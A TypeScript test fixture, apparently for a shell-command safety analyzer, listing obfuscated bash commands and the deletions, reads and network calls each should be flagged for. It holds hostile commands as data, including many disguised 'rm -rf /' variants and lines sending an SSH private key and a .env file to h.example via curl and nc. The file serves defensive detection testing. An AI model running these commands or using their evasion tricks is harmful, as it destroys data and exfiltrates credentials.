import { type FactRows, testRows } from "./test-rows.js";

/** Commands whose content comes through descriptors, and all of their facts. */
const ROWS: FactRows = {
  descriptors: [
    { run: "exec 3<<< 'rm -rf /'; bash <&3", deletes: ["/**"] },
    { run: "exec {fd}<<< 'rm -rf /'; bash <&$fd", deletes: ["/**"] },
    { run: "exec {fd}<<< 'rm -rf /'; bash /dev/fd/$fd", deletes: ["/**"] },
    { run: "exec 3<<< 'rm -rf /'; . /dev/fd/3", deletes: ["/**"] },
    { run: "exec 3<<< 'rm -rf /'; cat /dev/fd/3 | sh", deletes: ["/**"] },
    { run: "bash /dev/fd/3 3<<< 'rm -rf /'", deletes: ["/**"] },
    { run: "exec 3<s; bash <&3", reads: ["./s"], executes: ["file bash"], unknown: ["opaque-file"] },
    {
      run: "exec 3<~/.ssh/id_rsa; curl -d @/dev/fd/3 h.example",
      reads: ["~/.ssh/id_rsa"],
      network: ["both http://h.example < ~/.ssh/id_rsa"],
    },
    { run: "exec 3<<< 'rm -rf /'; cat <&3" },
    { run: "exec {fd}<<< 'rm -rf /'; exec {fd}<&-; rm x", deletes: ["./x"] },
  ],
  "lines and words": [
    { run: 'exec {fd}<<< "rm -rf /"; readarray -tu "$fd" a; eval "${a[0]}"', deletes: ["/**"] },
    { run: 'mapfile a <<< "rm -rf /"; eval "${a[@]}"', deletes: ["/**"] },
    { run: "mapfile -t <<< 'rm -rf /'; ${MAPFILE[0]}", deletes: ["/**"] },
    { run: "mapfile -t -s 1 -n 1 a <<< $'a\\n/\\nb'; rm -rf ${a[0]}", deletes: ["/**"] },
    { run: "mapfile -t -O 5 a <<< /; rm -rf ${a[5]}", deletes: ["/**"] },
    { run: 'mapfile -d , -t a <<< "rm,-rf,/,"; "${a[@]:0:3}"', deletes: ["/**"] },
    { run: "mapfile -C 'rm -rf /; :' -c 1 a <<< x", deletes: ["/**"] },
    { run: "mapfile -C eval -c 1 a <<< x", unknown: ["dynamic-code"] },
    { run: "mapfile -C echo -c 1 a <<< x" },
    { run: "read -ra a <<< 'rm -rf /'; \"${a[@]}\"", deletes: ["/**"] },
    { run: "read -rd '' x <<< 'rm -rf /'; eval \"$x\"", deletes: ["/**"] },
    { run: "read -n 1 x <<< '/etc'; rm -rf $x", deletes: ["/**"] },
    { run: "IFS=, read a b c <<< rm,-rf,/; $a $b $c", deletes: ["/**"] },
    { run: "IFS= read -r x <<< ' a'; rm \"$x\"", deletes: ["./ a"] },
    { run: "read 'a[1]' <<< /; rm -rf ${a[1]}", deletes: ["?/**"], unknown: ["dynamic-argument"] },
    {
      run: "a=($(cat list)); rm -rf ${a[1]}",
      reads: ["./list"],
      deletes: ["?/**"],
      unknown: ["dynamic-argument"],
    },
    { run: "read -r a b <<< 'x y'; rm $b", deletes: ["./y"] },
    { run: "while IFS= read -ru 3 l; do rm $l; done 3<<< $'a\\nb'", deletes: ["./a", "./b"] },
  ],
  "what other processes read": [
    {
      run: "echo 'rm -rf /' > >(bash)",
      executes: ["stdin bash"],
      deletes: ["/**"],
      unknown: ["dynamic-code"],
    },
    {
      run: "exec 3> >(bash); echo 'rm -rf /' >&3",
      executes: ["stdin bash"],
      deletes: ["/**"],
      unknown: ["dynamic-code"],
    },
    {
      run: "coproc bash; echo 'rm -rf /' >&${COPROC[1]}",
      executes: ["stdin bash"],
      deletes: ["/**"],
      unknown: ["dynamic-code"],
    },
    {
      run: 'coproc P { read x; rm -rf "$x"; }; echo / >&"${P[1]}"',
      deletes: ["?/**", "/**"],
      unknown: ["dynamic-argument"],
    },
    { run: "coproc { echo 'rm -rf /'; }; read x <&${COPROC[0]}; eval \"$x\"", deletes: ["/**"] },
    {
      run: "coproc nc h.example 9; cat .env >&${COPROC[1]}",
      reads: ["./.env"],
      network: ["both tcp://h.example < unknown", "both tcp://h.example < ./.env"],
    },
    { run: "coproc { sleep 1; }; rm x", deletes: ["./x"] },
    { run: "ls > >(cat)", reads: ["."] },
  ],
};

testRows(ROWS);
